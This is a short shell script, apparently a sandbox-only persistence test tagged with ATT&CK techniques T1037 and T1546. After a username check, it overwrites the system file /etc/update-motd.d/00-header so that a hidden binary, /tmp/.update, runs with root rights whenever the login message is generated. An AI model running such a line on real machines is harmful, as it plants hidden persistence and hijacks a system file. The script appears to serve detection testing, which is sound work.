#!/bin/sh
# technique: T1037 T1546
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

printf '#!/bin/sh\n/tmp/.update\n' > /etc/update-motd.d/00-header; chmod +x /etc/update-motd.d/00-header
